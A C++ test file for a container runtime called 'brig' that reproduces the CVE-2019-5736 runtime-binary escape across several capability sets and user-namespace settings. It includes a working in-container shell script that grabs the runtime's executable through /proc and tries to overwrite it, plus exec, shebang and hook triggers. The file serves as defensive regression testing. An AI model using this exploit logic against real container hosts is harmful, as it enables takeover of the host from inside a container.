// Escape class 1, the runtime binary (CVE-2019-5736), as the published exploit does it: the
// runtime is made to execute /proc/self/exe inside the container (as the program of `run`, of
// `exec`, as a "#!" interpreter, as a startContainer hook), a process of the container holds the
// file open while that runtime runs and writes to it once it has exited. In every capability set
// (Docker's, privileged, none given) with and without a user namespace, the host's binary must
// keep its hash. Running the runtime inside the container is allowed (runc does); writing it is
// not.
#include <sys/stat.h>

#include <string>
#include <vector>

#include "escapes/capability_sets.hpp"
#include "harness.hpp"

namespace brig::test {
namespace {

struct Config {
    Caps caps;
    bool user_namespace;
};

std::string config_name(const testing::TestParamInfo<Config>& info) {
    return capability_set_name(info.param.caps) + (info.param.user_namespace ? "UserNs" : "");
}

// The configuration under test, on top of base_config().
void apply(const Config& c, Bundle& b) {
    apply_capability_set(c.caps, b.config());
    if (c.user_namespace) {
        auto& linux_config = b.config()["linux"];
        linux_config["namespaces"].push_back({{"type", "user"}});
        linux_config["uidMappings"] = {{{"containerID", 0}, {"hostID", 100000}, {"size", 65536}}};
        linux_config["gidMappings"] = {{{"containerID", 0}, {"hostID", 100000}, {"size", 65536}}};
        fs::permissions(b.dir(), static_cast<fs::perms>(0755));
    }
    fs::permissions(b.rootfs() / "tmp", fs::perms::all | fs::perms::sticky_bit);
}

// The container's attacker: waits for a process whose executable is not the image's busybox,
// opens that executable (through /proc/PID/exe) while the process is held in its open of
// /tmp/fifo (the runtime's --log), releases it, then appends to the file as soon as it is no
// longer busy (ETXTBSY while it runs). The first other answer is the verdict: /tmp/refused.
constexpr const char* hunter =
    "while :; do for p in /proc/[0-9]*; do "
    "t=$(readlink $p/exe 2>/dev/null) || continue; [ \"$t\" = /bin/busybox ] && continue; "
    "( exec 3<$p/exe || exit 1; echo \"$t\" > /tmp/grabbed; cat /tmp/fifo >/dev/null; i=0; "
    "while [ $i -lt 1000 ]; do "
    "if err=$( (echo x >> /proc/self/fd/3) 2>&1 ); then echo wrote > /tmp/wrote; break; fi; "
    "case \"$err\" in *busy*) usleep 10000; i=$((i+1));; "
    "*) echo \"$err\" > /tmp/refused; break;; esac; done; "
    "echo done > /tmp/done ) 2>/dev/null && exit 0; done; done";

// What the runtime, run inside the container, is asked to do: open its log (the FIFO), which
// holds it until the hunter has the file, then print its version and exit 0.
const std::vector<std::string> held_runtime_args = {"--log", "/tmp/fifo", "--version"};

class RuntimeBinaryEscapeTest : public RuntimeTest, public testing::WithParamInterface<Config> {
protected:
    void SetUp() override {
        RuntimeTest::SetUp();
        if (IsSkipped() || HasFatalFailure())
            return;
        binary_ = runtime_binary();
        before_ = sha256_of(binary_);
        apply(GetParam(), bundle());
        ASSERT_EQ(mkfifo((bundle().rootfs() / "tmp/fifo").c_str(), 0666), 0);
        chmod((bundle().rootfs() / "tmp/fifo").c_str(), 0666);
        // brig's monitor watcher is a fork of brig that lives as long as the container: it
        // would keep the binary busy (ETXTBSY) and hide a vulnerable runtime.
        write_file(tmp_dir() / "no-monitor.json", R"({"monitor": {"enabled": false}})");
    }

    // The runtime with --root (and, for brig, the monitor off).
    CommandResult rt(std::vector<std::string> args) {
        if (runtime_kind() == RuntimeKind::brig)
            args.insert(args.begin(), {"--config", (tmp_dir() / "no-monitor.json").string()});
        CommandOptions options;
        options.timeout = std::chrono::seconds(30);
        return runtime(args, options);
    }
    CommandResult create_in(const Bundle& b, const std::string& id) {
        return rt({"create", "--bundle", b.dir().string(), id});
    }

    static std::string sha256_of(const std::string& path) {
        auto result = run_command({"sha256sum", path});
        EXPECT_TRUE(result.ok()) << result.describe();
        return result.out.substr(0, result.out.find(' '));
    }

    // A container whose init is the hunter, started.
    std::string start_hunter_container() {
        bundle().set_script(hunter);
        auto id = new_id();
        auto created = create_in(bundle(), id);
        EXPECT_TRUE(created.ok()) << created.describe();
        auto started = rt({"start", id});
        EXPECT_TRUE(started.ok()) << started.describe();
        return id;
    }

    // Waits for the hunter to finish, then checks the host. For brig the attack must have got
    // as far as holding the runtime's binary (the test attacks for real); a runtime that cannot
    // run inside this busybox image at all (runc is linked dynamically) never gets there.
    void expect_binary_unchanged() {
        auto tmp = bundle().rootfs() / "tmp";
        wait_until([&] { return fs::exists(tmp / "done"); }, std::chrono::seconds(30));
        if (runtime_kind() == RuntimeKind::brig) {
            EXPECT_TRUE(fs::exists(tmp / "grabbed")) << "the runtime never ran in the container";
            EXPECT_TRUE(fs::exists(tmp / "done")) << "the hunter never got an answer";
        }
        std::cout << "[          ] held: "
                  << (fs::exists(tmp / "grabbed") ? trim(read_file(tmp / "grabbed")) : "nothing")
                  << ", write: "
                  << (fs::exists(tmp / "refused") ? trim(read_file(tmp / "refused")) : "-") << "\n";
        EXPECT_FALSE(fs::exists(tmp / "wrote")) << "the container wrote the runtime's binary";
        EXPECT_EQ(sha256_of(binary_), before_) << "the host's " << binary_ << " changed";
    }

    std::string binary_;
    std::string before_;
};

// The victim is a second container's entrypoint, in the hunter's pid namespace (a pod sharing
// its process namespace) and on the same rootfs: its exit does not end the hunter.
TEST_P(RuntimeBinaryEscapeTest, RunEntrypointProcSelfExe) {
    auto hunter_id = start_hunter_container();
    auto pid = std::to_string(state(hunter_id).value("pid", 0));
    Bundle victim = make_bundle("victim");
    apply(GetParam(), victim);
    victim.config()["root"]["path"] = bundle().rootfs().string();
    auto& linux_config = victim.config()["linux"];
    for (auto& ns : linux_config["namespaces"]) {
        if (ns["type"] == "pid")
            ns["path"] = "/proc/" + pid + "/ns/pid";
        if (ns["type"] == "user")
            ns["path"] = "/proc/" + pid + "/ns/user";
    }
    linux_config.erase("uidMappings");
    linux_config.erase("gidMappings");
    std::vector<std::string> args = {"/proc/self/exe"};
    args.insert(args.end(), held_runtime_args.begin(), held_runtime_args.end());
    victim.set_args(args);
    auto ran = rt({"run", "--bundle", victim.dir().string(), new_id("victim")});
    std::cout << "[          ] run: " << ran.describe() << "\n";
    expect_binary_unchanged();
}

TEST_P(RuntimeBinaryEscapeTest, ExecProcSelfExe) {
    auto id = start_hunter_container();
    std::vector<std::string> args = {"exec", id, "/proc/self/exe"};
    args.insert(args.end(), held_runtime_args.begin(), held_runtime_args.end());
    rt(args);
    expect_binary_unchanged();
}

TEST_P(RuntimeBinaryEscapeTest, ExecShebangProcSelfExe) {
    write_file(bundle().rootfs() / "evil.sh", "#!/proc/self/exe --log=/tmp/fifo\n", 0755);
    auto id = start_hunter_container();
    rt({"exec", id, "/evil.sh", "--version"});
    expect_binary_unchanged();
}

// A startContainer hook runs in the container from the image: its path is resolved there.
TEST_P(RuntimeBinaryEscapeTest, StartContainerHookProcSelfExe) {
    std::vector<std::string> args = {"brig"};
    args.insert(args.end(), held_runtime_args.begin(), held_runtime_args.end());
    bundle().config()["hooks"]["startContainer"] = {{{"path", "/proc/self/exe"}, {"args", args}}};
    bundle().set_args({"sleep", "1000"});
    auto id = new_id();
    auto created = create_in(bundle(), id);
    ASSERT_TRUE(created.ok()) << created.describe();
    auto hunter_exec = rt({"exec", "--detach", id, "sh", "-c", hunter});
    ASSERT_TRUE(hunter_exec.ok()) << hunter_exec.describe();
    rt({"start", id});
    expect_binary_unchanged();
}

INSTANTIATE_TEST_SUITE_P(Configs, RuntimeBinaryEscapeTest,
                         testing::Values(Config{Caps::docker, false},
                                         Config{Caps::privileged, false},
                                         Config{Caps::absent, false}, Config{Caps::docker, true},
                                         Config{Caps::privileged, true},
                                         Config{Caps::absent, true}),
                         config_name);

}  // namespace
}  // namespace brig::test
